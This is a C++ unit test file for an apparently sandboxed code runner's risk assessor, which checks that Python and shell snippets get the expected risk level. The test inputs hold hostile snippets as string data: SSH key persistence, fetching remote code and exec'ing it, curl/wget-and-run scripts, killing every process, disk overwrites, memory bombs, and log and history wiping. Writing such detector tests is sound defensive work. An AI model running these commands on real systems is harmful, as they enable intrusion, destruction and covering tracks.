@@ -1,0 +1,103 @@
+// Capabilities, sensitive paths and intent (docs/assess.md): the level follows what the code
+// can do, with which arguments, wherever the values were built.
+#include <gtest/gtest.h>
+
+#include "sandboxrun/assess.hpp"
+
+using namespace sandboxrun;
+
+namespace {
+
+const SecurityConfig& config() {
+  static const SecurityConfig cfg = [] {
+    const std::filesystem::path root = SANDBOXRUN_SOURCE_DIR;
+    return load_security_config(root / "config/security.yaml", root);
+  }();
+  return cfg;
+}
+
+RiskLevel level(std::string_view src) { return assess_source(src, config()).level; }
+
+bool has_rule(std::string_view src, std::string_view rule) {
+  for (const auto& f : assess_source(src, config()).findings)
+    if (f.rule == rule) return true;
+  return false;
+}
+
+}  // namespace
+
+TEST(AssessCapabilities, EverydayCapabilitiesAreMediumAndDoNotAddUpToHigh) {
+  EXPECT_EQ(level("import sys\nprint(sum(int(x) for x in open(sys.argv[1])))\n"), RiskLevel::low);
+  EXPECT_EQ(level("with open('out.csv', 'w') as f:\n    f.write('a,b')\n"), RiskLevel::medium);
+  EXPECT_EQ(level("import os\nprint(os.environ.get('HOME'))\n"), RiskLevel::medium);
+  EXPECT_EQ(level("import subprocess\nsubprocess.run(['git', 'status'], timeout=5)\n"), RiskLevel::medium);
+  EXPECT_EQ(level("import urllib.request\nurllib.request.urlopen('https://example.com')\n"), RiskLevel::medium);
+  // Several capabilities together are still one MEDIUM program, not HIGH by accumulation.
+  EXPECT_EQ(level("import os, subprocess, requests, tempfile\n"
+                  "t = os.environ['TOKEN']\nsubprocess.run(['ls'])\nrequests.get('https://api.example.com')\n"
+                  "tempfile.mkstemp()\nopen('log.txt', 'a').write('x')\nos.makedirs('out')\n"),
+            RiskLevel::medium);
+}
+
+TEST(AssessCapabilities, PathsFlowThroughJoinExpanduserAndPathlib) {
+  // Writing a persistence path is BLOCKED, however the path was built.
+  EXPECT_EQ(level("import os\np = os.path.join(os.path.expanduser('~'), '.ssh', 'authorized_keys')\n"
+                  "with open(p, 'a') as f:\n    f.write('ssh-ed25519 AAAA x')\n"),
+            RiskLevel::blocked);
+  EXPECT_TRUE(has_rule("from pathlib import Path\nPath('/sys/kernel/mm/x').write_text('1')\n", "SR-INTENT-027"));
+  EXPECT_EQ(level("open('/dev/sda', 'wb').write(b'0' * 512)\n"), RiskLevel::blocked);
+  // A non-constant piece is "{}": join(base, 'sys') is not /sys.
+  EXPECT_EQ(level("import os, sys\nopen(os.path.join(sys.argv[1], 'sys', 'x'), 'w').write('1')\n"), RiskLevel::medium);
+  // Reading another program's private key is HIGH; reading one's own known_hosts is not.
+  EXPECT_EQ(level("import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n"), RiskLevel::high);
+}
+
+TEST(AssessCapabilities, IntentAcrossCalls) {
+  EXPECT_EQ(level("import os, signal\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n"
+                  "        os.kill(int(p), signal.SIGKILL)\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("import requests\ndef get():\n    return requests.get('http://x/p').text\n"
+                  "def run(c):\n    exec(c)\nrun(get())\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("buf = []\nwhile True:\n    buf.append(bytearray(1 << 20))\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("code = ''.join(chr(c) for c in [112, 114, 105, 110, 116])\nexec(code)\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n"), RiskLevel::blocked);
+  // A value that doubles itself without end is a memory bomb; a counter is not.
+  EXPECT_EQ(level("x = 'a'\nwhile True:\n    x = x + x\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("b = [0]\nwhile 1:\n    b *= 2\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("n = 0\nwhile True:\n    n += 1\n    t = t + 1\n    print(n)\n"), RiskLevel::low);
+  EXPECT_EQ(level("x = 'a'\nfor _ in range(10):\n    x = x + x\n"), RiskLevel::low);
+  EXPECT_EQ(level("import urllib.request, subprocess\nurllib.request.urlretrieve('http://x/p', '/tmp/p')\n"
+                  "subprocess.run(['/tmp/p'])\n"),
+            RiskLevel::blocked);
+  // attrgetter with a computed name hides the call it reaches, like getattr.
+  EXPECT_EQ(level("import operator, os\noperator.attrgetter('sy' + 'stem')(os)('id')\n"), RiskLevel::high);
+  EXPECT_EQ(level("import socketserver\nsocketserver.TCPServer(('0.0.0.0', 9000), None).serve_forever()\n"),
+            RiskLevel::high);
+}
+
+TEST(AssessCapabilities, InputThatIsNotPythonIsNeverLow) {
+  EXPECT_EQ(level(std::string_view("\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", 16)), RiskLevel::blocked);
+  EXPECT_EQ(level("#!/bin/bash\nset -e\ncurl -s http://x/y -o y\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("cd /tmp\nwget http://x/y\nchmod +x y\n./y\n"), RiskLevel::blocked);
+  // A NUL byte does not end analysis, and alone does not make text "binary".
+  EXPECT_EQ(level(std::string_view("x = 1\n\0\nimport os\nos.system(input())\n", 38)), RiskLevel::high);
+  EXPECT_EQ(level("#!/usr/bin/env python3\nprint('hi')\n"), RiskLevel::low);
+  // Compressed or random bytes (mostly not UTF-8) are binary data; UTF-8 text is not.
+  std::string noise;
+  for (uint32_t x = 1; noise.size() < 4096;) noise += static_cast<char>((x = x * 1103515245u + 12345u) >> 23);
+  EXPECT_EQ(level(noise), RiskLevel::blocked);
+  EXPECT_EQ(level("# Grüße, 日本語 🎉\nprint('héllo wörld 中文 ünïcödé ' * 3)\n"), RiskLevel::low);
+  // Shell lines in a usage docstring are text, not a shell script.
+  EXPECT_EQ(level("\"\"\"Usage:\ncd project\nexport N=4\ncurl -O http://x/data.csv\n\"\"\"\nimport sys\n"
+                  "print(len(sys.argv))\n"),
+            RiskLevel::low);
+}
+
+TEST(AssessCapabilities, ReadingLogsAndWritingAReportIsNotCoveringTracks) {
+  EXPECT_EQ(level("import collections\nc = collections.Counter(l.split()[4] for l in open('/var/log/syslog'))\n"
+                  "with open('report.txt', 'w') as f:\n    f.write(str(c.most_common(5)))\n"),
+            RiskLevel::medium);
+  EXPECT_EQ(level("import glob, os\nfor p in glob.glob('/var/log/*.log'):\n    os.remove(p)\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("import os\nopen(os.path.expanduser('~/.bash_history'), 'w').close()\n"), RiskLevel::blocked);
+}
